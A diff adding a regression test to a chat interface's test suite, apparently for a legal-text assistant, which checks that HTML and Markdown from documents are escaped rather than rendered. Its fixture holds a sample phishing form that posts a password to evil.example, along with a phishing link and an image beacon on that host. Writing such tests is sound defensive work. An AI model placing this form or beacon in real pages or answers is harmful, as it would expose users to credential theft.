@@ -310,3 +310,16 @@ def test_sources_show_what_kind_of_text_each_citation_rests_on():
         )
     )
     assert ">summary</span>" in html and ">judicial interpretation</span>" in html
+
+
+def test_a_documents_html_and_links_are_shown_as_text_in_the_chat():
+    # Issue 15: a <form> from a document rendered live in the web chat and submitted elsewhere.
+    hostile = (
+        '<form action="https://evil.example"><input name="pw"><button>Verify</button></form> '
+        "See [the official text](https://evil.example/phish) ![x](https://evil.example/p.png) [1]"
+    )
+    shown = ui.format_answer(Answer(question="q", text=hostile, citations=[make_citation()]))
+    assert "<form" not in shown and "<input" not in shown and "<button" not in shown
+    assert "&lt;form" in shown
+    assert "](" not in shown  # no Markdown link or image left to render
+    assert "the official text (https://evil.example/phish)" in shown
